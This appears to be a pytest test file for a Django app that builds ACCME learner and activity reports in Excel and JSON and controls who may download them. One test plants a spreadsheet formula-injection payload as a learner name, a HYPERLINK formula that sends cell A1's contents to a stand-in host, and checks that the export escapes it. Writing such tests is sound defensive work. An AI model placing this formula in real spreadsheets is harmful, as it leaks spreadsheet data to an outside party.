"""The files a batch gives: the Excel learner template (read back cell by
cell) and the JSON learner report (compared with a golden file and
validated against the schema), written again identically from the stored
rows; the activity export; and who may download them."""

import datetime
import io
import json
import os
import re
from decimal import Decimal
from pathlib import Path

import jsonschema
import openpyxl
import pytest

from learning.certificates import issuance
from learning.models import (
    Certificate,
    LearningPathPage,
    PathCommercialSupport,
    PathMocRegistration,
    ReportBatch,
    SupportKind,
)
from learning.reporting.activity import activities_xlsx
from learning.reporting.batches import create_batch
from learning.reporting.json_report import learners_document, schema

from .report_fixtures import add_moc, certify, learner, reporting_institution, reporting_path

pytestmark = pytest.mark.django_db
GOLDEN = Path(__file__).parent / "golden"
# REGENERATE_GOLDEN=1 rewrites the golden files (then read the diff).
REGENERATE = os.environ.get("REGENERATE_GOLDEN") == "1"


@pytest.fixture
def office():
    institution, staff = reporting_institution()
    path = reporting_path(institution)
    maya = certify(learner("doctor-a"), path, "1.25", number="CB-2026-0001")
    sam = certify(
        learner(
            "doctor-b",
            "Sam",
            "O'Neil-Ortiz",
            birth=(11, 30),
            npi="",
            licences=(("NY", "NY-998"), ("CA", "A77")),
            consents=("pars", "state:NY", "state:CA", "board:ABIM"),
        ),
        path,
        "1.5",
        number="CB-2026-0002",
        completed=datetime.date(2026, 3, 15),
    )
    ann = certify(
        learner("doctor-c", "Ann", "Lee", birth=(1, 2), licences=(), boards=(("ABIM", "654321"),)),
        path,
        "0.75",
        number="CB-2026-0003",
        completed=datetime.date(2026, 3, 16),
    )
    add_moc(maya)
    add_moc(ann, points="0.75", board_id="654321")
    add_moc(ann, credit_type="ABIM:PS", points="0.5", board_id="654321")
    return {"institution": institution, "staff": staff, "path": path, "certs": [maya, sam, ann]}


def sheet_rows(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Sheet1"]
    sheet = workbook["Sheet1"]
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


def as_text(value):
    return value.isoformat() if isinstance(value, datetime.date | datetime.datetime) else value


def check_golden(name, actual):
    path = GOLDEN / name
    if REGENERATE:
        path.write_text(json.dumps(actual, indent=2, ensure_ascii=False) + "\n")
    assert actual == json.loads(path.read_text())


def check_xlsx(content, golden):
    sheet, rows = sheet_rows(content)
    assert rows[0][0].startswith("Alderbank CME Office, ACCME provider 0012345: ")
    assert rows[1] == [
        "Record Action",
        "ACCME Activity ID",
        "Completion Date",
        "First Name",
        "Last Name",
        "Date of Birth",
        "Licensing State",
        "Licensing ID or NPI",
        "Number of CME Credits",
        "Certifying Board",
        "Certifying Board ID",
        "Total Board Credits",
        "Credit Type ",
        "Credits Awarded for Credit Type",
        "Additional Credit Type",
        "Credits Awarded for Additional Credit Type",
    ]
    for row in sheet.iter_rows(min_row=3):
        assert isinstance(row[2].value, datetime.datetime)
        assert row[2].number_format == "mm/dd/yyyy"
        assert row[5].data_type == "s"  # MM/DD stays text
    check_golden(golden, [[as_text(v) for v in row] for row in rows[2:]])


def check_json(document, golden):
    jsonschema.validate(document, schema(), format_checker=jsonschema.FormatChecker())
    created = document["ACCMELearnerReports"]["ActivityReports"]["DateTimeCreated"]
    datetime.datetime.fromisoformat(created)
    document["ACCMELearnerReports"]["ActivityReports"]["DateTimeCreated"] = "<created>"
    check_golden(golden, document)


def test_cme_batch_files(client, office):
    batch = create_batch(office["institution"], "CME", office["staff"])
    client.force_login(office["staff"])
    response = client.get(f"/admin/cme-reports/batches/{batch.pk}/learners.xlsx")
    assert response["Content-Disposition"] == (
        'attachment; filename="pars-cme-alderbank-batch-1.xlsx"'
    )
    check_xlsx(b"".join(response.streaming_content), "learners-cme.xlsx.json")
    response = client.get(f"/admin/cme-reports/batches/{batch.pk}/learners.json")
    check_json(json.loads(b"".join(response.streaming_content)), "learners-cme.json")


def test_board_batch_files(office):
    batch = create_batch(office["institution"], "ABIM", office["staff"])
    from learning.reporting.excel import learners_xlsx

    check_xlsx(learners_xlsx(batch), "learners-abim.xlsx.json")
    check_json(learners_document(batch), "learners-abim.json")


def test_files_are_written_from_the_stored_rows(office):
    """Later edits of the learner or the path never change a batch's files."""
    from learning.reporting.excel import learners_xlsx

    batch = create_batch(office["institution"], "CME", office["staff"])
    before = (sheet_rows(learners_xlsx(batch))[1], learners_document(batch))
    profile = office["certs"][0].user.learner_profile
    profile.first_name, profile.birth_month = "Changed", 12
    profile.save()
    office["path"].accme_activity_id = "202500000"
    office["path"].save()
    assert (sheet_rows(learners_xlsx(batch))[1], learners_document(batch)) == before


def test_delete_rows_in_the_files(office):
    from learning.reporting.excel import learners_xlsx

    create_batch(office["institution"], "CME", office["staff"])
    issuance.reissue(office["certs"][2], office["staff"], "Credits corrected")
    batch = create_batch(office["institution"], "CME", office["staff"])
    rows = sheet_rows(learners_xlsx(batch))[1][2:]
    assert [(r[0], r[3], r[4]) for r in rows] == [("Delete", "Ann", "Lee"), ("Add", "Ann", "Lee")]
    reports = learners_document(batch)["ACCMELearnerReports"]["ActivityReports"]["ActivityReport"]
    assert [r["XtensibleInfo"]["LearnerRecordAction"] for r in reports] == ["delete", "add"]
    jsonschema.validate(learners_document(batch), schema())


def test_hostile_names_are_neutralised(office):
    from learning.reporting.excel import learners_xlsx

    profile = office["certs"][0].user.learner_profile
    profile.first_name, profile.last_name = '=HYPERLINK("http://evil.example/?"&A1,"x")', "+Chen"
    profile.save()
    batch = create_batch(office["institution"], "CME", office["staff"])
    sheet, rows = sheet_rows(learners_xlsx(batch))
    maya = rows[2]
    assert maya[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")' and maya[4] == "'+Chen"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_activity_export(office):
    path = office["path"]
    path.joint_provider = "Westside Clinic"
    path.measures_performance = True
    path.save()
    PathCommercialSupport.objects.create(page=path, company="Acme", kind=SupportKind.IN_KIND)
    PathMocRegistration.objects.create(
        page=path, board="ABIM", credit_type="ABIM:MK", points=Decimal("1.50")
    )
    content = activities_xlsx([office["institution"]], today=datetime.date(2026, 4, 1))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["alderbank"]
    header, row = [[c.value for c in r] for r in workbook["alderbank"].iter_rows()]
    found = dict(zip(header, row, strict=True))
    assert found == {
        "ACCME Activity ID": "202512345",
        "Provider Activity ID": str(path.pk),
        "Reporting Year": 2026,
        "Activity Title": "Recognising sepsis",
        "Activity Date": datetime.datetime.combine(path.release_date, datetime.time()),
        "Activity End Date": datetime.datetime.combine(path.termination_date, datetime.time()),
        "Providership": "Joint",
        "Activity Type": "IEM",
        "Hours of Instruction": 1.5,
        "# of Physicians": 3,
        "# of Other Learners": 0,
        "Commercial Support Received?": "Yes",
        "# of Commercial Supporters": 1,
        "Monetary Support Received?": "No",
        "In-Kind Support Received?": "Yes",
        "Joint Provider(s)": "Westside Clinic",
        "Number of AMA PRA Category 1 CreditsTM Designated": 1.5,
        "Changes in Competence evaluated?": "Yes",
        "Changes in Performance evaluated?": "Yes",
        "Changes in Patient Outcomes evaluated?": "No",
        "Changes in Community Health evaluated?": "No",
        "MOC Registrations": "ABIM Medical Knowledge 1.5",
    }


def test_downloads_are_for_the_batch_institutions_staff(client, office):
    batch = create_batch(office["institution"], "CME", office["staff"])
    other, other_staff = reporting_institution("Birchfield CME Office", "birchfield", "0054321")
    client.force_login(other_staff)
    base = f"/admin/cme-reports/batches/{batch.pk}/"
    for url in (base, base + "learners.xlsx", base + "learners.json"):
        assert client.get(url).status_code == 404
    assert "Maya" not in client.get("/admin/cme-reports/batches/").content.decode()
    new = f"/admin/cme-reports/batches/new/?institution={office['institution'].pk}&body=CME"
    assert client.get(new).status_code == 404
    activities = f"/admin/cme-reports/activities.xlsx?institution={office['institution'].pk}"
    assert client.get(activities).status_code == 404
    client.force_login(office["staff"])
    html = client.get("/admin/cme-reports/batches/").content.decode()
    assert "Batch 1" in html
    html = client.get(base).content.decode()
    assert "Maya Chen" in html and "Sam O&#x27;Neil-Ortiz" in html


def _rows_checked(page):
    return re.search(r'name="rows" value="([0-9a-f]+)"', page.content.decode()).group(1)


def test_making_a_batch_through_the_validation_page(client, office):
    client.force_login(office["staff"])
    data = {"institution": office["institution"].pk, "body": "CME"}
    page = client.get("/admin/cme-reports/batches/new/", data)
    assert "Make batch with these 3 rows" in page.content.decode()
    # A post without the rows the office saw makes nothing.
    response = client.post("/admin/cme-reports/batches/new/", data)
    assert response.status_code == 200
    assert "The rows changed since this page was opened" in response.content.decode()
    assert not ReportBatch.objects.exists()
    data["rows"] = _rows_checked(page)
    response = client.post("/admin/cme-reports/batches/new/", data)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/cme-reports/batches/")
    response = client.post("/admin/cme-reports/batches/new/", data)
    assert response.status_code == 200
    assert "Nothing to report: every completion is already reported" in response.content.decode()


def test_a_completion_issued_after_the_page_was_opened_is_not_reported_unseen(client, office):
    """The office checks the rows, then clicks "Make batch": a completion
    issued in between is not slipped into the batch."""
    client.force_login(office["staff"])
    data = {"institution": office["institution"].pk, "body": "CME"}
    page = client.get("/admin/cme-reports/batches/new/", data)
    data["rows"] = _rows_checked(page)
    certify(learner("late-comer", "Lena", "Park"), office["path"])

    response = client.post("/admin/cme-reports/batches/new/", data)

    html = response.content.decode()
    assert response.status_code == 200
    assert "the batch would now hold 4 rows, listed below" in html
    assert "Lena Park" in html
    assert not ReportBatch.objects.exists()
    data["rows"] = _rows_checked(response)
    assert client.post("/admin/cme-reports/batches/new/", data).status_code == 302
    assert ReportBatch.objects.get().rows.count() == 4


def test_the_activity_export_of_a_past_year_counts_learners_as_of_its_last_day(client, office):
    """ACCME asks for an enduring material's cumulative learner counts as of
    31 December of each year it is active: exported in March for the year
    before, a completion of this year is not counted."""
    LearningPathPage.objects.filter(pk=office["path"].pk).update(
        release_date=datetime.date(2025, 6, 1), termination_date=datetime.date(2027, 6, 1)
    )
    newer = reporting_path(office["institution"], "Delirium on the ward", "delirium", "202512346")
    LearningPathPage.objects.filter(pk=newer.pk).update(release_date=datetime.date(2026, 2, 1))
    Certificate.objects.filter(pk=office["certs"][0].pk).update(
        completion_date=datetime.date(2025, 12, 31)
    )

    def rows(year, today):
        content = activities_xlsx([office["institution"]], today=today, year=year)
        header, *found = [
            [c.value for c in r]
            for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
        ]
        return [dict(zip(header, row, strict=True)) for row in found]

    [last_year] = rows(2025, datetime.date(2026, 3, 2))
    assert (last_year["Activity Title"], last_year["Reporting Year"]) == (
        "Recognising sepsis",
        2025,
    )
    assert last_year["# of Physicians"] == 1  # the two of March 2026 come later
    this_year = rows(2026, datetime.date(2026, 4, 1))
    assert [(r["Activity Title"], r["# of Physicians"]) for r in this_year] == [
        ("Delirium on the ward", 0),
        ("Recognising sepsis", 3),
    ]

    client.force_login(office["staff"])
    url = "/admin/cme-reports/activities.xlsx"
    response = client.get(url, {"year": "2025"})
    assert response["Content-Disposition"] == 'attachment; filename="pars-activities-2025.xlsx"'
    for bad in ("²⁰²⁵", "1999", "2999", "twenty"):
        assert client.get(url, {"year": bad}).status_code == 404
